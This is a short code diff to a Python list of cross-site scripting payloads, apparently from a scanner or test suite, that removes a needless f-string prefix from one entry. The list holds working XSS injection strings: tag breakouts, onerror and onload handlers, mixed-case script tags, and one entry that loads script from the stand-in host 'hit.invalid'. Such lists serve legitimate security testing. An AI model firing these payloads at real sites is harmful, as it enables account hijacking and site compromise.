@@ -20,7 +20,7 @@ PAYLOADS = (
     f"</title></style></textarea><script>{RUN}</script>",
     f"<!--<script>--><script>{RUN}</script>",
     f"]]><script>{RUN}</script>",
-    f"<ScRiPt src=//hit.invalid/a.js></sCrIpT>",
+    "<ScRiPt src=//hit.invalid/a.js></sCrIpT>",
     f"<img src=x onerror={RUN}>",
     f"\"><img src=x onerror=\"{RUN}\">",
     f"'><svg/onload='{RUN}'>",
